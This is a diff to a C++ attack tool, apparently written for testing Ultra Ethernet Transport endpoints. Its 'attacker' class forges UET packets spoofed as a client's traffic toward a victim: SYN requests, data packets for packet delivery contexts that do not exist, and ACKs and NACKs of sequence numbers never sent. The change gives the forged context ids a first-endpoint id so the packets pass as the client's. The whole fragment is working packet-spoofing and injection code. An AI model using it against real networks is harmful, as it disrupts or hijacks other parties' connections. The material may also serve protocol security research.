@@ -74,6 +74,7 @@
 #include "tss/key_file.hpp"
 #include "tss/sublayer.hpp"
 #include "wire/frame.hpp"
+#include "wire/uet_fep.hpp"
 #include "wire/uet_packet.hpp"
 #include "wire/uet_tss.hpp"
 
@@ -383,9 +384,16 @@ class attacker {
         bool established = false;
     };
 
+    // A PDC id of a port's first endpoint (PIDonFEP 0): a UET endpoint keeps its PIDonFEP in
+    // the top bits of every PDC id it picks (wire/uet_fep.hpp), so that what comes back names
+    // it. We are our address's first endpoint, and so are the victim and its client.
+    std::uint16_t first_endpoint_pdc_id() {
+        return static_cast<std::uint16_t>(rng_() & wire::fep_id_low_mask);
+    }
+
     pdc new_pdc() {
         pdc p;
-        p.spdcid = static_cast<std::uint16_t>(rng_());
+        p.spdcid = first_endpoint_pdc_id();
         p.start_psn = p.next_psn = static_cast<std::uint32_t>(rng_());
         return p;
     }
@@ -470,7 +478,7 @@ class attacker {
             answer_pdc_.victim_pdc = r.spdcid;
             answer_pdc_.expected = r.psn - r.psn_offset;
             answer_pdc_.received.clear();
-            answer_pdc_.spdcid = static_cast<std::uint16_t>(rng_());
+            answer_pdc_.spdcid = first_endpoint_pdc_id();
         }
         if (r.spdcid != answer_pdc_.victim_pdc) return;
         answer_pdc_.received.insert(r.psn);
@@ -532,28 +540,34 @@ class attacker {
     void forged_pdc() {
         std::uint64_t sent = 0;
         const std::uint32_t n = o_.count / 4;
+        // Forged as the client's, both PDC ids name first endpoints: another PIDonFEP would be
+        // another endpoint at the client's address, a stranger.
         const auto forged = [&](std::uint32_t src_ip, const wire::mac_address& mac, int kind) {
-            const auto dpdcid = static_cast<std::uint16_t>(rng_());
+            const auto pdc_id = [&] {
+                return src_ip == o_.client_ip ? first_endpoint_pdc_id()
+                                              : static_cast<std::uint16_t>(rng_());
+            };
+            const auto dpdcid = pdc_id();
             const auto psn = static_cast<std::uint32_t>(rng_());
             wire::uet_packet_spec p;
             bytes payload(256, 0x3c);
             if (kind == 0) {  // a data packet of a PDC that does not exist
                 wire::pds_rud_rod_request h;
                 h.psn = psn;
-                h.spdcid = static_cast<std::uint16_t>(rng_());
+                h.spdcid = pdc_id();
                 h.dpdcid = dpdcid;
                 p = with_request(h, request(wire::ses_opcode::write, 256), payload);
             } else if (kind == 1) {  // an ACK of PSNs never sent
                 wire::pds_ack_cc a;
                 a.cack_psn = psn;
-                a.spdcid = static_cast<std::uint16_t>(rng_());
+                a.spdcid = pdc_id();
                 a.dpdcid = dpdcid;
                 p.pds = a;
             } else {  // a NACK of a PSN never sent
                 wire::pds_nack k;
                 k.code = wire::nack_code::trimmed;
                 k.nack_psn = psn;
-                k.spdcid = static_cast<std::uint16_t>(rng_());
+                k.spdcid = pdc_id();
                 k.dpdcid = dpdcid;
                 p.pds = k;
             }
@@ -631,7 +645,7 @@ class attacker {
         wire::pds_rud_rod_request h;
         h.syn = true;
         h.psn = static_cast<std::uint32_t>(rng_());
-        h.spdcid = static_cast<std::uint16_t>(rng_());
+        h.spdcid = first_endpoint_pdc_id();
         bytes payload(512, 0x5a);
         return udp_frame(s,
                          encoded(with_request(h, request(wire::ses_opcode::send, 512), payload)));
@@ -939,7 +953,7 @@ class attacker {
         wire::pds_rud_rod_request h;
         h.syn = true;
         h.psn = static_cast<std::uint32_t>(rng_());
-        h.spdcid = static_cast<std::uint16_t>(rng_());
+        h.spdcid = first_endpoint_pdc_id();
         wire::ses_standard_request r = request(wire::ses_opcode::write, 64);
         r.memory_key = rng_();
         wire::frame_spec s = own_spec();
